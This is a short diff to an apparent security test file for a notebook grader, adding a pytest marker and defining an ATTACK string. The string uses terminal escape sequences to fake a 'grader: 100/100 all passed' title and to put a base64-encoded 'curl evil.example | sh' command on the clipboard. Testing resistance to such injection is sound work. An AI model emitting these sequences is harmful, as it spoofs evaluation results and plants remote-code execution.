@@ -14,7 +14,10 @@ import re
 import subprocess
 import sys
 
+import pytest
 from advkit import grader_env, require_sandbox, template, with_cells, write
+
+pytestmark = pytest.mark.kernel  # `grader check` in a subprocess, kernels included
 
 # Python source text: the escapes are written as \x1b etc., so the notebook file is plain JSON.
 ATTACK = (r"'\x1b]0;grader: 100/100 all passed\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'"
